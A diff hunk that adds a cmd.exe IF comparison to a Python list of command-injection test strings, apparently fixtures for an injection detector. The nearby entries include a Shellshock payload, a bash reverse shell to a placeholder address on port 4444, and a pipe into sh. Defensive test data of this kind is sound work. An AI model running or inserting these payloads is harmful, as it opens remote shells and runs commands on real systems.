@@ -83,6 +83,7 @@ COMMAND_INJECTIONS = [
     ("for /f \"delims=\" %x in ('whoami') do echo %x", "a cmd.exe FOR loop"),
     ("IF EXIST C:\\boot.ini type C:\\boot.ini", "a cmd.exe IF on a file"),
     ("& if %OS% EQU Windows_NT ver", "a cmd.exe IF comparing a variable"),
+    ('IF /I "%name%" NEQ "admin" ECHO denied', "a cmd.exe IF comparing a quoted variable"),
     ("() { :;}; echo; /usr/bin/id", "a function definition opening the value (Shellshock)"),
     ("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1", "a reverse shell through bash's network device"),
     ("printf 'di' | rev | sh", "a pipe into a shell"),
